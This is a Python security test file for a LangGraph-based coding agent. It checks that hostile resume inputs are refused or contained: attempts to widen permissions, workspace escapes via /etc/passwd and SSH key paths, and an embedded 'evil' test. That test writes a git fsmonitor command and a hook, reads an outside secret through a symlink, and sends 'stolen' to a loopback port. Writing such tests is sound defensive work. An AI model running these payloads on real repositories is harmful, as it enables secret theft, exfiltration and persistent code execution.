"""The attack corpus at the LangGraph server's front door (`langgraph dev`, langgraph_sdk): a client that can
reach the port answers the plan question. It resumes with a context that would widen the run (permission,
shell, network, extra reads, an endpoint the operator did not list), edits a task to name paths outside the
workspace, then keeps the edit that the checks let through: a focus file that is a symlink out of the
workspace and criteria whose verify commands attack (`.git` config, an outside file, the network). Judged by
effect: no request reaches the unlisted endpoint, no secret reaches the model or the state, `.git`'s config
and hooks and the outside folder are unchanged, no fsmonitor runs, no connection is heard."""

from __future__ import annotations

import json
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from slmcode.eval.scripted import request_text
from slmcode.nodes.prompts import SYSTEM
from tests.board.scenario import CHECK, script_team
from tests.fake_llm import FakeLLM, Reply
from tests.graph.test_server import client, interrupts_in, repo, server, stream, thread_id  # noqa: F401
from tests.tools.test_attacks import SECRET, digest, listening

pytestmark = pytest.mark.slow

# A test file in the repository that always passes and tries every way out while it runs (the verify command
# an edit adds runs it; so does the tester's suite).
EVIL_TEST = """import socket


def test_evil():
    tries = (lambda: open(".git/config", "a").write("[core]\\n\\tfsmonitor = touch {marker}\\n"),
             lambda: open(".git/hooks/pre-commit", "w").write("touch {marker}"),
             lambda: open("{outside}/new.txt", "w").write("x"),
             lambda: print(open("{outside}/secret.py").read()),
             lambda: print(open("calc/notes.py").read()),
             lambda: socket.create_connection(("127.0.0.1", {port}), timeout=2).send(b"stolen"))
    for attempt in tries:
        try:
            attempt()
        except Exception as exc:
            print("blocked", type(exc).__name__)
"""


def refused(client: Any, thread_id: str, context: dict[str, Any], answer: Any) -> str:
    """The error a resume ends with (the client sees it as the stream's error event)."""
    parts = [
        (p.event, p.data)
        for p in client.runs.stream(
            thread_id, "slmcode", command={"resume": answer}, context=context, stream_mode=["updates"]
        )
    ]
    errors = [data for event, data in parts if event == "error"]
    assert errors, f"the resume was not refused: {parts[-3:]}"
    return str(errors[0])


@pytest.fixture
def listener() -> Iterator[tuple[int, list[bytes]]]:
    """A loopback port that must hear nothing: the unlisted 'endpoint' and the payloads' target."""
    with listening() as found:
        yield found


def test_hostile_answers_to_the_plan_question_change_nothing(
    client: Any,
    thread_id: str,
    fake_llm: FakeLLM,
    repo: Path,
    tmp_path: Path,
    listener: tuple[int, list[bytes]],
) -> None:
    port, heard = listener
    outside = tmp_path / "outside"  # beside the allowed root, not under it
    outside.mkdir()
    (outside / "secret.py").write_text(f"TOKEN = '{SECRET}'\n")
    (repo / "calc" / "notes.py").symlink_to(outside / "secret.py")
    marker = tmp_path / "fsmonitor-ran"
    (repo / "tests" / "test_evil.py").write_text(EVIL_TEST.format(marker=marker, outside=outside, port=port))
    git_before = {p: digest(repo / ".git" / p) for p in ("hooks", "info")} | {
        "config": {"text": (repo / ".git" / "config").read_text()}
    }
    outside_before = digest(outside)

    script_team(fake_llm)
    fake_llm.on(SYSTEM["corrector"], Reply(content="I cannot fix it."))  # a hostile criterion fails: no fix
    good = {"base_url": fake_llm.url, "model": "m", "request_retries": 0, "approve": "plan"}
    context = {"workspace": str(repo), "overrides": good}
    start = {
        "run_id": thread_id,
        "query": "Add divide and power",
        "workspace": str(repo),
        "phase": "start",
        "rounds": 0,
    }
    assert interrupts_in(stream(client, thread_id, input=start, context=context))
    asked = len(fake_llm.requests)

    wider = [
        ({"permission": "auto", "approve": "plan"}, "permission only to"),  # from review: wider, refused
        ({"shell_extra_commands": ["bash -c"]}, "may not set shell_extra_commands"),
        ({"sandbox_network": True}, "may not set sandbox_network"),
        ({"sandbox_read_paths": ["/"]}, "may not set sandbox_read_paths"),
        ({"base_url": f"http://127.0.0.1:{port}/v1"}, "configured endpoints"),
    ]
    for overrides, expected in wider:
        hostile = {"workspace": str(repo), "overrides": {**good, **overrides}}
        error = refused(client, thread_id, hostile, "approve")
        assert expected in error, (overrides, error)
    assert client.threads.get_state(thread_id)["next"] == ["approve"]  # still waiting for a real answer
    assert len(fake_llm.requests) == asked and heard == []

    for path in ("/etc/passwd", "../../outside/secret.py", "~/.ssh/id_ed25519"):
        again = interrupts_in(
            stream(
                client,
                thread_id,
                context=context,
                command={"resume": [{"id": "r1t1", "focus_files": [path]}, {"id": "r1test"}]},
            )
        )
        assert "is not a path inside the workspace" in again[0]["value"]["error"], path

    hostile_criteria = [
        {"text": "divide works", "verify": CHECK + " -k divide"},
        {"text": "the evil test", "priority": "should", "verify": CHECK + " -s tests/test_evil.py"},
        {"text": "fsmonitor", "priority": "should", "verify": f"git config core.fsmonitor 'touch {marker}'"},
        {"text": "outside", "priority": "should", "verify": f"cat {outside}/secret.py"},
        {"text": "symlink", "priority": "should", "verify": "cat calc/notes.py"},
    ]
    edit = [
        {
            "id": "r1t1",
            "focus_files": ["calc/ops.py", "calc/notes.py", "tests/test_ops.py"],
            "criteria": hostile_criteria,
        },
        {"id": "r1test"},
    ]
    stream(client, thread_id, context=context, command={"resume": edit})
    state = client.threads.get_state(thread_id)
    values = state["values"]
    # The run ends or waits for a human at escalation (a hostile criterion failed): either way the payload ran.
    assert values.get("outcome") or state["next"], "the run neither ended nor waits"
    dumped = json.dumps(values, default=str)
    assert dumped.count("blocked ") >= 5, "the evil test's tries did not run"

    for request in fake_llm.requests:
        assert SECRET not in request_text(request)
    assert SECRET not in json.dumps(values, default=str)
    assert {p: digest(repo / ".git" / p) for p in ("hooks", "info")} | {
        "config": {"text": (repo / ".git" / "config").read_text()}
    } == git_before
    assert digest(outside) == outside_before
    subprocess.run(["git", "status"], cwd=repo, capture_output=True)  # the user's next git status
    assert not marker.exists()
    assert heard == []
